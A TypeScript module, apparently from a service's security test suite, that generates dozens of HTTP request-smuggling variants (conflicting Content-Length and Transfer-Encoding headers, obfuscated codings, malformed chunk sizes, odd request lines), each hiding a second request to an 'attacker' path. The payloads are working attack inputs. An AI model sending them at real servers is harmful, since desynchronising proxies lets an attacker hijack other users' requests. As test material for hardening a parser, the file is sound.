/**
 * Requests whose end two programs may find in different places, so that one of them takes what follows for another
 * request (request smuggling). Each shape has a hidden part behind what one program takes for the end.
 */

export interface SmugglingShape {
  readonly name: string;
  /** Returns the bytes to send, as Latin-1. */
  bytes(hidden: string): string;
}

const CHUNKED = "Transfer-Encoding: chunked";
const CODES = "/mapcode/batch/codes";
/** A batch of one row, as a single chunk. */
const CHUNK = "4\r\n1,2\n\r\n";
const LAST_CHUNK = "0\r\n\r\n";

function head(line: string, headers: readonly string[]): string {
  return `${[`${line} HTTP/1.1`, "Host: x", "Content-Type: text/plain", ...headers].join("\r\n")}\r\n\r\n`;
}

function post(headers: readonly string[], body: string): string {
  return head(`POST ${CODES}`, headers) + body;
}

/** The length is that of chunks and hidden part together; for who reads chunks, the hidden part follows them. */
function lengthAndCoding(name: string, ...codings: readonly string[]): SmugglingShape {
  return {
    name: `a length and ${name}`,
    bytes: (hidden) => {
      const body = LAST_CHUNK + hidden;
      return post([`Content-Length: ${body.length}`, ...codings], body);
    },
  };
}

/** The hidden part is the body by these lines, or follows the head. */
function lengths(name: string, lines: (length: number) => readonly string[]): SmugglingShape {
  return { name, bytes: (hidden) => post(lines(hidden.length), hidden) };
}

/** A body whose chunks are malformed, before the hidden part. */
function chunks(name: string, body: (hidden: string) => string): SmugglingShape {
  return { name, bytes: (hidden) => post([CHUNKED], body(hidden)) };
}

/** A request that never has a body, or whose head is malformed, before the hidden part. */
function request(name: string, bytes: (hidden: string) => string): SmugglingShape {
  return { name, bytes };
}

const LENGTH_AND_CODING = [
  lengthAndCoding("chunks", CHUNKED),
  lengthAndCoding("an unknown coding", "Transfer-Encoding: xchunked"),
  lengthAndCoding("a space before the colon of the coding", "Transfer-Encoding : chunked"),
  lengthAndCoding("the coding twice", CHUNKED, CHUNKED),
  lengthAndCoding("chunks and an unknown coding", CHUNKED, "Transfer-Encoding: x"),
  lengthAndCoding("a tab before the coding", "Transfer-Encoding:\tchunked"),
  lengthAndCoding("a vertical tab before the coding", "Transfer-Encoding:\x0bchunked"),
  lengthAndCoding("a space before the name of the coding", " Transfer-Encoding: chunked"),
  lengthAndCoding("a coding after a bare LF", `X: x\n${CHUNKED}`),
  lengthAndCoding("a coding after a bare CR", `X: x\r${CHUNKED}`),
  lengthAndCoding("a coding on a folded line", "Transfer-Encoding:\r\n chunked"),
  lengthAndCoding("a name of a coding that is folded", "Transfer-Encoding\r\n : chunked"),
  lengthAndCoding("identity", "Transfer-Encoding: identity"),
  lengthAndCoding("chunks before identity", "Transfer-Encoding: chunked, identity"),
  lengthAndCoding("identity before chunks", "Transfer-Encoding: identity, chunked"),
  lengthAndCoding("a coding in other case", "tRANSFER-eNCODING: cHUNKED"),
  lengthAndCoding("a quoted coding", 'Transfer-Encoding: "chunked"'),
  lengthAndCoding("a coding with a parameter", "Transfer-Encoding: chunked;q=1"),
  lengthAndCoding("an empty coding", "Transfer-Encoding:"),
  lengthAndCoding("an underscore in the name of the coding", "Transfer_Encoding: chunked"),
  lengthAndCoding("a coding with a null byte", "Transfer-Encoding: chunked\0"),
  lengthAndCoding("a coding for this connection", CHUNKED, "Connection: Transfer-Encoding"),
  {
    name: "a length that ends within the chunks",
    bytes: (hidden: string) => {
      const size = `${hidden.length.toString(16)}\r\n`;
      return post([`Content-Length: ${size.length}`, CHUNKED], `${size}${hidden}\r\n${LAST_CHUNK}`);
    },
  },
];

const LENGTHS = [
  lengths("two lengths", (length) => ["Content-Length: 0", `Content-Length: ${length}`]),
  lengths("two lengths, zero last", (length) => [`Content-Length: ${length}`, "Content-Length: 0"]),
  lengths("two lengths in a line", (length) => [`Content-Length: 0, ${length}`]),
  lengths("a length with a plus", (length) => [`Content-Length: +${length}`]),
  lengths("a negative length", (length) => [`Content-Length: -${length}`]),
  lengths("a hexadecimal length", (length) => [`Content-Length: 0x${length.toString(16)}`]),
  lengths("a length with a space in it", (length) => [`Content-Length: 0 ${length}`]),
  lengths("a length with a fraction", (length) => [`Content-Length: 0.${length}`]),
  lengths("a length with an exponent", (length) => [`Content-Length: ${length}e0`]),
  lengths("a length beyond 64 bits", (length) => [`Content-Length: ${2n ** 64n + BigInt(length)}`]),
  lengths("a space before the colon of a length", (length) => [`Content-Length : ${length}`]),
  lengths("a vertical tab before a length", (length) => [`Content-Length:\x0b${length}`]),
  lengths("a length after a bare LF", (length) => [`X: x\nContent-Length: ${length}`]),
  lengths("a length on a folded line", (length) => [`Content-Length:\r\n ${length}`]),
  lengths("an underscore in the name of a length", (length) => [`Content_Length: ${length}`]),
  lengths("a length after a header without a name", (length) => [
    ": x",
    `Content-Length: ${length}`,
  ]),
  lengths("a length after a line without a colon", (length) => ["x", `Content-Length: ${length}`]),
  lengths("a length for this connection", (length) => [
    `Content-Length: ${length}`,
    "Connection: Content-Length",
  ]),
];

const CHUNKS = [
  chunks("a chunk extension with a bare LF", (hidden) => `4;\n1,2\n\r\n${LAST_CHUNK}${hidden}`),
  chunks(
    "a long chunk extension",
    (hidden) => `4;${"x".repeat(9000)}\r\n1,2\n\r\n${LAST_CHUNK}${hidden}`,
  ),
  chunks(
    "a hexadecimal prefix of a chunk size",
    (hidden) => `0x4\r\n1,2\n\r\n${LAST_CHUNK}${hidden}`,
  ),
  chunks("a chunk size with a plus", (hidden) => `+4\r\n1,2\n\r\n${LAST_CHUNK}${hidden}`),
  chunks("a negative chunk size", (hidden) => `${CHUNK}-1\r\n${hidden}\r\n${LAST_CHUNK}`),
  chunks(
    "a chunk size beyond 64 bits",
    (hidden) => `10000000000000004\r\n1,2\n\r\n${LAST_CHUNK}${hidden}`,
  ),
  chunks("a chunk without an end", (hidden) => `4\r\n1,2\nXX${LAST_CHUNK}${hidden}`),
  chunks("chunks with bare LFs", (hidden) => `4\n1,2\n\n0\n\n${hidden}`),
  chunks("an empty chunk size", (hidden) => `${CHUNK}\r\n${hidden}\r\n${LAST_CHUNK}`),
  chunks(
    "a trailer with a length",
    (hidden) => `${CHUNK}0\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
  ),
];

const REQUESTS = [
  request(
    "a GET with a body",
    (hidden) => head("GET /mapcode/status", [`Content-Length: ${hidden.length}`]) + hidden,
  ),
  request(
    "a HEAD with a body",
    (hidden) => head("HEAD /mapcode/status", [`Content-Length: ${hidden.length}`]) + hidden,
  ),
  request(
    "a GET with chunks",
    (hidden) => head("GET /mapcode/status", [CHUNKED]) + LAST_CHUNK + hidden,
  ),
  request(
    "an expectation that holds the body back",
    (hidden) =>
      head("GET /mapcode/status", [`Content-Length: ${hidden.length}`, "Expect: 100-continue"]) +
      hidden,
  ),
  request("an unknown expectation", (hidden) =>
    post([`Content-Length: ${hidden.length}`, "Expect: frogs"], hidden),
  ),
  request(
    "an absolute target of another host",
    (hidden) => head("GET http://other.example/mapcode/status", []) + hidden,
  ),
  request("two hosts", (hidden) => head("GET /mapcode/status", ["Host: other.example"]) + hidden),
  request(
    "HTTP/1.0 with chunks",
    (hidden) =>
      `POST ${CODES} HTTP/1.0\r\n${CHUNKED}\r\nConnection: keep-alive\r\n\r\n${LAST_CHUNK}${hidden}`,
  ),
  request("a request without a version", (hidden) => `GET /mapcode/status\r\n${hidden}`),
  request(
    "bare LFs at the ends of lines",
    (hidden) =>
      `GET /mapcode/status HTTP/1.1\nHost: x\nContent-Length: ${hidden.length}\n\n${hidden}`,
  ),
  request(
    "empty lines before the request",
    (hidden) => `\r\n\r\n${head("GET /mapcode/status", [])}${hidden}`,
  ),
  request(
    "an upgrade",
    (hidden) => head("GET /mapcode/status", ["Connection: Upgrade", "Upgrade: websocket"]) + hidden,
  ),
  request("a pipelined request", (hidden) => head("GET /mapcode/status", []) + hidden),
];

export const SMUGGLING_SHAPES: readonly SmugglingShape[] = [
  ...LENGTH_AND_CODING,
  ...LENGTHS,
  ...CHUNKS,
  ...REQUESTS,
];

const ATTACKER_TARGET = "/mapcode/codes/-33.9,18.4";

/** What is hidden: a whole request, and the start of one that would take the victim's request line as a header. */
export const HIDDEN_PARTS: readonly string[] = [
  `GET ${ATTACKER_TARGET} HTTP/1.1\r\nHost: x\r\n\r\n`,
  `GET ${ATTACKER_TARGET} HTTP/1.1\r\nHost: x\r\nX: `,
];
